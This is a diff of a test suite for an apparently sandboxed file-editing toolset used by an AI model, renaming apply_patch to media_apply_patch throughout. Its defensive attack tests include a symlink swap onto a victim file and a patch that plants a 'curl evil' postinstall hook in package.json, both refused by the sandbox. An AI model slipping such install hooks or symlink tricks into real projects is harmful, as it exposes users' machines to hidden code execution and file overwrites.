@@ -17,7 +17,7 @@ test('an outside write after staging makes save_media refuse with a conflict and
     const file = join(t.root, 'c.txt');
     writeFileSync(file, 'v1\n');
     await t.session.invoke(TOOLS.stage_file, { path: 'c.txt' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'v1', replace: 'model' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'v1', replace: 'model' } });
     writeFileSync(file, 'person\n');
     await rejectsWith(t.session.invoke(TOOLS.save_media, { media_id: 'm2' }), 'E_SANDBOX_CONFLICT',
       '"c.txt" changed on disk after m2 was staged; saving would overwrite that change. Stage the file again with stage_file, re-apply your edits to the new media, and save it.');
@@ -90,7 +90,7 @@ test('attack: a staged file replaced by a symlink to another file is refused, an
     writeFileSync(join(t.root, 'victim.txt'), 'keep me\n');
     writeFileSync(join(t.root, 'f.txt'), 'f\n');
     await t.session.invoke(TOOLS.stage_file, { path: 'f.txt' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'f', replace: 'overwritten' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'f', replace: 'overwritten' } });
     rmSync(join(t.root, 'f.txt'));
     symlinkSync(join(t.root, 'victim.txt'), join(t.root, 'f.txt'));
     await rejectsWith(t.session.invoke(TOOLS.save_media, { media_id: 'm2' }), 'E_SANDBOX_REFUSED',
@@ -120,8 +120,8 @@ test('saving one line of edits makes the other unsaved media of that file stale'
     writeFileSync(join(t.root, 's.txt'), 'base\n');
     await t.session.invoke(TOOLS.stage_file, { path: 's.txt' });
     await t.session.invoke(TOOLS.stage_file, { path: 's.txt' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'one' } });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm2', patch: { find: 'base', replace: 'two' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'one' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm2', patch: { find: 'base', replace: 'two' } });
     const saved = await t.session.invoke(TOOLS.save_media, { media_id: 'm3' });
     assert.deepEqual(saved.result, { media_id: 'm3', path: 's.txt', added: 1, removed: 1, bytes: 4, created: false, method: 'rename', stale: ['m2', 'm4'] });
     assert.equal(saved.text, [
@@ -141,7 +141,7 @@ test('a save the person declines leaves the disk unchanged and tells the model',
   try {
     writeFileSync(join(t.root, 'k.txt'), 'k\n');
     await t.session.invoke(TOOLS.stage_file, { path: 'k.txt' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'k', replace: 'K' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'k', replace: 'K' } });
     await rejectsWith(t.session.invoke(TOOLS.save_media, { media_id: 'm2' }), 'E_SANDBOX_REFUSED',
       'The user declined save_media on "k.txt". Do not retry the same call; ask the user what they want instead.');
     assert.equal(readFileSync(join(t.root, 'k.txt'), 'utf8'), 'k\n');
@@ -167,7 +167,7 @@ test('attack: a save outside the configured write roots is refused before anythi
     mkdirSync(join(t.root, 'src'));
     writeFileSync(join(t.root, 'package.json'), '{}\n');
     await t.session.invoke(TOOLS.stage_file, { path: 'package.json' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: '{}', replace: '{"scripts":{"postinstall":"curl evil"}}' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: '{}', replace: '{"scripts":{"postinstall":"curl evil"}}' } });
     await rejectsWith(t.session.invoke(TOOLS.save_media, { media_id: 'm2' }), 'E_SANDBOX_REFUSED',
       'save_media may not write "package.json": it is outside the write roots ("src", "docs"). Save under one of them, or ask the user to add this folder to workspaceTools.writeRoots.');
     assert.equal(readFileSync(join(t.root, 'package.json'), 'utf8'), '{}\n');
@@ -281,7 +281,7 @@ test('a save through a temp file keeps the file\'s permission bits', async () =>
     writeFileSync(file, '#!/bin/sh\necho hi\n');
     chmodSync(file, 0o750);
     await t.session.invoke(TOOLS.stage_file, { path: 'run.sh' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'hi', replace: 'hello' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'hi', replace: 'hello' } });
     await t.session.invoke(TOOLS.save_media, { media_id: 'm2' });
     assert.equal(statSync(file).mode & 0o777, 0o750);
     assert.equal(readFileSync(file, 'utf8'), '#!/bin/sh\necho hello\n');
@@ -293,8 +293,8 @@ test('two saves of one file at once never both pass the conflict check: the seco
   try {
     writeFileSync(join(t.root, 'race.txt'), 'base\n');
     await t.session.invoke(TOOLS.stage_file, { path: 'race.txt' });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'first' } });
-    await t.session.invoke(TOOLS.apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'second' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'first' } });
+    await t.session.invoke(TOOLS.media_apply_patch, { media_id: 'm1', patch: { find: 'base', replace: 'second' } });
     const [a, b] = await Promise.allSettled([
       t.session.invoke(TOOLS.save_media, { media_id: 'm2' }),
       t.session.invoke(TOOLS.save_media, { media_id: 'm3' }),
